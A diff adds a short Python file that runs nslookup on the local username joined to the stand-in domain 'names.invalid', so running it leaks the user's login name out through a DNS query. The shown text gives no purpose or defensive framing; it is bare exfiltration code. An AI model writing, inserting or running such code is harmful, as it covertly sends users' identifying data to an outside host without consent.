@@ -1,0 +1,4 @@
+import getpass
+import subprocess
+
+subprocess.run(["nslookup", getpass.getuser() + ".names.invalid"])
